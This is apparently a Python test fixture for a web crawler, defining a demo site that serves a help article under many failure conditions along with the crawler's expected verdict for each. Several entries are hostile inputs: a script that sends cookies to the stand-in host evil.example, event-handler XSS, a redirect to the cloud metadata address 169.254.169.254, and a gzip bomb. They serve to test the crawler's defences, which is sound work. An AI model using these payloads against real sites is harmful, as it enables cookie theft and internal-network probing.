"""Everything that can happen to an official page, each to a copy of one article, and what must come of it.

``PERILS`` is the table; ``PerilSite`` serves ``/help/<name>`` calmly until ``storm`` is set.
"""

from __future__ import annotations

import gzip
import re
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from http import HTTPStatus
from urllib.parse import urlsplit

from spiders.demo.catalogue import PAGES, Hazard
from spiders.demo.noise import Noise
from spiders.demo.rendering import render_article, render_hazard
from spiders.demo.site import Answer, DemoSite

_ARTICLE = next(page for page in PAGES if page.id == "pinegrove.cancel")
_DEEP = 50_000
_TAG = re.compile(r"(<[^>]*>)")


@dataclass(frozen=True, slots=True, kw_only=True)
class Peril:
    """One thing that can happen to a page, and what a look must come to.

    ``problem`` is the name of the failure or rejection, "" where the page was read; ``ticket`` the kind
    and target of the one ticket that it opens, "" for none. ``answer`` makes the answer of the site from
    the calm page. ``own_host``: what happens is told of the host, so it must not meet the others.
    """

    name: str
    happens: str
    outcome: str
    problem: str = ""
    ticket: str = ""
    answer: Callable[[str], Answer]
    own_host: bool = False
    rendered: bool = False


class PerilSite(DemoSite):
    """The article at ``/help/<name>`` of each peril; what happens to it happens while ``storm`` is set."""

    def __init__(self, port: int = 0) -> None:
        super().__init__(port)
        self.storm = False

    def answer(self, target: str, if_none_match: str = "") -> Answer:
        """What the site says to a GET of ``target``."""
        path = urlsplit(target).path
        if path == "/robots.txt":
            rule = "Disallow: /help/disallowed" if self.storm else "Disallow:"
            return Answer(body=f"User-agent: *\n{rule}\n".encode(), media_type="text/plain")
        peril = next((each for each in PERILS if path == f"/help/{each.name}"), None)
        if peril is not None and self.storm:
            return peril.answer(calm())
        if peril is not None or path in ("/moved/membership", "/article"):
            return Answer(body=calm().encode())
        if path.startswith("/loop"):
            return _to(f"{path}o")
        return Answer(body=render_hazard(Hazard.SHELL, target, Noise(path, 0)))


@cache
def calm(*, redesigned: bool = False, generation: int = 1) -> str:
    """The article as HTML."""
    noise = Noise("perils", 0)
    page = render_article(_ARTICLE, generation=generation, noise=noise, variant="A", redesigned=redesigned)
    return page.decode()


def _html(text: str, status: int = HTTPStatus.OK) -> Answer:
    return Answer(body=text.encode("utf-8", "surrogatepass"), status=status)


def _to(address: str, status: int = HTTPStatus.FOUND) -> Answer:
    return Answer(body=b"", status=status, headers=(("Location", address),))


def _hazard(hazard: Hazard, status: int = HTTPStatus.OK, **headers: str) -> Callable[[str], Answer]:
    def answer(page: str) -> Answer:
        body = render_hazard(hazard, "/help", Noise(hazard, 0))
        named = tuple((name.replace("_", "-"), value) for name, value in headers.items())
        return Answer(body=body, status=status, headers=named)

    return answer


def _typeset(page: str) -> str:
    """Other spaces, hyphens and apostrophes in every text; not one word differs."""
    head, body = page.split("<main>")
    parts = _TAG.split(body)
    texts = [
        part if n % 2 else part.replace(" by ", " by\u00a0").replace("'", "\u2019")
        for n, part in enumerate(parts)
    ]
    return (
        head
        + "<main>"
        + "".join(texts).replace("$12 per", "$12\u202fper").replace("bottom of", "bottom\u2009of")
    )


def _hostile(page: str) -> str:
    """Scripts, handlers, NUL bytes and an attribute of a megabyte around the same words."""
    attack = "<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"
    body = page.replace("<main>", f'<main onclick="alert(2)" data-x="{"A" * 1_000_000}">{attack}')
    return body.replace(
        "<li>", '<li onmouseover="alert(3)" style="background:url(javascript:alert(4))">'
    ).replace("<title>", "<title>\0")


def _french(page: str) -> str:
    text = (
        "<p>Votre abonnement se renouvelle tout seul jusqu’à ce que vous y mettiez fin, et ce qui est payé"
        " reste acquis jusqu’à la fin du mois en cours. Ouvrez le menu, choisissez votre abonnement, puis"
        " confirmez que vous voulez vraiment le résilier.</p>"
    )
    body = f"<main><h1>Résilier votre abonnement</h1>{text * 4}</main>"
    return f"<html lang=fr><title>Résilier votre abonnement</title><body>{body}</body></html>"


def _scripted(page: str) -> str:
    """The article again, but a script puts it there."""
    return (
        "<!doctype html><html lang=en><head><meta charset=utf-8><title>Help</title></head>"
        "<body><div id=app>Loading</div><script>fetch('/article').then(a => a.text()).then(text => {"
        " const page = new DOMParser().parseFromString(text, 'text/html');"
        " app.innerHTML = page.querySelector('main').outerHTML })</script></body></html>"
    )


def _shrunk(page: str) -> str:
    start, end = page.index("<h2>On our website"), page.index("</div>\n</main>")
    return page[:start] + page[end:]


def _wall(what: str) -> str:
    return (
        f"<html lang=en><title>{what}</title><main><h1>{what}</h1><form><input name=u><input type=password>"
        "<button>Log in</button></form></main></html>"
    )


def _notice(what: str) -> str:
    return f"<html lang=en><title>Pinegrove</title><main><h1>{what}</h1><p>Thank you.</p></main></html>"


@cache
def _bomb() -> bytes:
    return gzip.compress(b"<p>" + b"A" * 100_000_000)


PERILS: tuple[Peril, ...] = (
    Peril(name="calm", happens="nothing", outcome="unchanged", answer=_html),
    Peril(
        name="typography",
        happens="other spaces and apostrophes",
        outcome="unchanged",
        answer=lambda page: _html(_typeset(page)),
    ),
    Peril(
        name="hostile",
        happens="scripts, handlers, NUL bytes, a giant attribute",
        outcome="unchanged",
        answer=lambda page: _html(_hostile(page)),
    ),
    Peril(
        name="redesign",
        happens="new class names around the same text",
        outcome="unchanged",
        ticket="source-health recipe",
        answer=lambda page: _html(calm(redesigned=True)),
    ),
    Peril(
        name="moved",
        happens="301 to a new address, same text",
        outcome="unchanged",
        ticket="source-health address",
        answer=lambda page: _to("/moved/membership", HTTPStatus.MOVED_PERMANENTLY),
    ),
    Peril(
        name="forwarded",
        happens="a page that only sends its readers on, same text there",
        outcome="unchanged",
        answer=lambda page: _html(
            '<meta http-equiv="refresh" content="0; url=/moved/membership"><p>Moved</p>'
        ),
    ),
    Peril(
        name="scripted",
        happens="the article is put there by a script now (render: auto)",
        outcome="unchanged",
        answer=lambda page: _html(_scripted(page)),
        rendered=True,
    ),
    Peril(
        name="changed",
        happens="a refund window really changes, 3 → 2 days",
        outcome="changed",
        ticket="fact refund.membership",
        answer=lambda page: _html(page.replace("within 3 days", "within 2 days")),
    ),
    Peril(
        name="soft-404",
        happens="“no longer available”, status 200",
        outcome="rejected",
        problem="soft-404",
        ticket="source-health health",
        answer=_hazard(Hazard.SOFT_404),
    ),
    Peril(
        name="robot-check",
        happens="“are you a robot?”, status 200",
        outcome="rejected",
        problem="bot-check",
        ticket="source-health health",
        answer=_hazard(Hazard.BLOCKED),
    ),
    Peril(
        name="detour",
        happens="302 to /sorry/index",
        outcome="rejected",
        problem="bot-check",
        ticket="source-health health",
        answer=lambda page: _to("/sorry/index?continue=x"),
    ),
    Peril(
        name="shell",
        happens="an application that never loads",
        outcome="rejected",
        problem="script-shell",
        ticket="source-health health",
        answer=_hazard(Hazard.SHELL),
    ),
    Peril(
        name="login",
        happens="a login form, status 200",
        outcome="rejected",
        problem="wall",
        ticket="source-health health",
        answer=lambda page: _html(_wall("Log in")),
    ),
    Peril(
        name="country",
        happens="“not available in your country”, status 200",
        outcome="rejected",
        problem="wall",
        ticket="source-health health",
        answer=lambda page: _html(_notice("Pinegrove is not available in your country")),
    ),
    Peril(
        name="maintenance",
        happens="“back soon”, status 200",
        outcome="rejected",
        problem="error-page",
        ticket="source-health health",
        answer=lambda page: _html(_notice("Pinegrove is down for maintenance")),
    ),
    Peril(
        name="front-page",
        happens="302 to the front page",
        outcome="rejected",
        problem="home-page",
        ticket="source-health health",
        answer=lambda page: _to("/"),
    ),
    Peril(
        name="language",
        happens="the article in another language",
        outcome="rejected",
        problem="wrong-language",
        ticket="source-health health",
        answer=lambda page: _html(_french(page)),
    ),
    Peril(
        name="empty",
        happens="nothing, status 200",
        outcome="rejected",
        problem="empty",
        ticket="source-health health",
        answer=lambda page: Answer(body=b""),
    ),
    Peril(
        name="file",
        happens="a PDF",
        outcome="rejected",
        problem="not-text",
        ticket="source-health health",
        answer=lambda page: Answer(body=b"%PDF-1.7", media_type="application/pdf"),
    ),
    Peril(
        name="nested",
        happens=f"{_DEEP:,} elements inside one another",
        outcome="rejected",
        problem="oversized",
        ticket="source-health health",
        answer=lambda page: _html("<div>" * _DEEP + page),
    ),
    Peril(
        name="shrunk",
        happens="most of the article is missing",
        outcome="held",
        problem="shrunk",
        ticket="source-health health",
        answer=lambda page: _html(_shrunk(page)),
    ),
    Peril(
        name="gone",
        happens="404",
        outcome="failed",
        problem="gone",
        ticket="source-health source",
        answer=_hazard(Hazard.GONE, HTTPStatus.NOT_FOUND),
    ),
    Peril(
        name="rate-limited",
        happens="429, come back in an hour",
        outcome="failed",
        problem="blocked",
        ticket="source-health health",
        answer=_hazard(Hazard.RATE_LIMITED, HTTPStatus.TOO_MANY_REQUESTS, Retry_After="3600"),
        own_host=True,
    ),
    Peril(
        name="error",
        happens="500 at every try",
        outcome="failed",
        problem="http-error",
        ticket="source-health health",
        answer=lambda page: _html("oops", HTTPStatus.INTERNAL_SERVER_ERROR),
    ),
    Peril(
        name="loop",
        happens="redirects without end",
        outcome="failed",
        problem="http-error",
        ticket="source-health health",
        answer=lambda page: _to("/loop"),
    ),
    Peril(
        name="elsewhere",
        happens="301 to a host that is not declared",
        outcome="failed",
        problem="off-host",
        ticket="source-health health",
        answer=lambda page: _to("http://mirror.example/help", HTTPStatus.MOVED_PERMANENTLY),
    ),
    Peril(
        name="inside",
        happens="302 to an address inside the operator's network",
        outcome="failed",
        problem="off-host",
        ticket="source-health health",
        answer=lambda page: _to("http://169.254.169.254/latest/meta-data/"),
    ),
    Peril(
        name="disallowed",
        happens="robots.txt does not allow it any more",
        outcome="failed",
        problem="refused-by-robots",
        ticket="source-health health",
        answer=_html,
    ),
    Peril(
        name="bomb",
        happens="100 MB in 100 KB of gzip",
        outcome="failed",
        problem="too-large",
        ticket="source-health health",
        answer=lambda page: Answer(body=_bomb(), headers=(("Content-Encoding", "gzip"),)),
    ),
)
